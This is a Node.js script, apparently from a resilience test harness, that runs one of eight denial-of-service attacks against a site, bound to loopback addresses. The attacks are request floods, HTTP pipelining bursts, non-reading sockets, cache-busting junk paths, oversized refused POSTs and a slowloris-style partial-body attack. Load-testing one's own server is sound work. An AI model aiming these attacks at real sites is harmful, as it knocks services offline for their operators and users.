// Runs one attack on a site until the process is ended. It is a separate process, so that it takes no
// processor time from the one that measures.
import { Agent, request } from 'node:http';
import { connect } from 'node:net';

/** Milliseconds before a closed connection is opened again. */
const PAUSE = 20;

const [, , name = '', origin = ''] = process.argv;
const { hostname, port } = new URL(origin);

let asked = 0;
/** A number that was not used before, so that no answer can be one that is known. */
const next = () => (asked += 1);
const rendered = () => `/web?callbackUrl=/faqs&n=${next()}`;
const unknown = () => `/no-such-page-${next()}`;
/** Scripts of a report that no release has. */
const boot = () => `/_boot/junk${next()}.js?of=/reports/gold-vs-silver`;

/** An address of this machine for a client of its own; who measures has the first. @param {number} client */
const addressOf = (client) => `127.0.0.${client + 2}`;

/** A message without an address: it is refused. */
const REFUSED = JSON.stringify({ email: '', message: 'a'.repeat(59_000) });
const WRITE = {
  method: 'POST',
  headers: { 'Content-Type': 'application/json', 'Sec-Fetch-Site': 'same-origin' },
};

/**
 * Each connection sends its next request as soon as it has received a response.
 * @param {number} connections
 * @param {() => string} path
 * @param {object} [options]
 * @param {string} [body]
 */
function flood(connections, path, options = {}, body = undefined) {
  const agent = new Agent({ keepAlive: true, maxSockets: connections });
  const ask = () => {
    const again = () => setTimeout(ask, PAUSE);
    const to = { hostname, port, agent, localAddress: addressOf(0), path: path(), ...options };
    request(to, (response) => response.resume().on('end', ask).on('error', again))
      .on('error', again)
      .end(body);
  };
  for (let i = 0; i < connections; i += 1) ask();
}

/**
 * Each connection sends all its words at once; when it is closed, a new one replaces it.
 * @param {{ connections: number, clients?: number, words: () => string, reads: boolean }} attack
 */
function send({ connections, clients = 1, words, reads }) {
  const open = (/** @type {number} */ i) => {
    const to = { port: Number(port), host: hostname, localAddress: addressOf(i % clients) };
    const socket = connect(to, () => {
      const more = () => socket.write(words(), () => reads && socket.writable && more());
      more();
    });
    socket.on('error', () => {}).on('close', () => setTimeout(() => open(i), PAUSE));
    if (reads) socket.resume();
    else socket.pause();
  };
  for (let i = 0; i < connections; i += 1) open(i);
}

/** @param {() => string} path @param {number} [count] */
const pipelined = (path, count = 1_500) =>
  Array.from({ length: count }, () => `GET ${path()} HTTP/1.1\r\nHost: ${hostname}\r\n\r\n`).join('');

/** The head of a message, of whose body nothing more than this comes. */
const BEGUN = `POST /api/waitlist HTTP/1.1\r\nHost: ${hostname}\r\nContent-Type: application/json\r\nContent-Length: 9000\r\n\r\n{`;

/** @type {Record<string, () => void>} */
const ATTACKS = {
  flood: () => flood(200, rendered),
  pipeline: () => send({ connections: 1, words: () => pipelined(rendered), reads: true }),
  deaf: () => send({ connections: 250, words: () => pipelined(() => '/'), reads: false }),
  unknown: () => send({ connections: 2, words: () => pipelined(unknown, 64), reads: true }),
  names: () => flood(250, unknown),
  writes: () => flood(200, () => '/api/waitlist', WRITE, REFUSED),
  slow: () => send({ connections: 324, clients: 6, words: () => BEGUN, reads: false }),
  boot: () => flood(250, boot),
};

ATTACKS[name]?.();
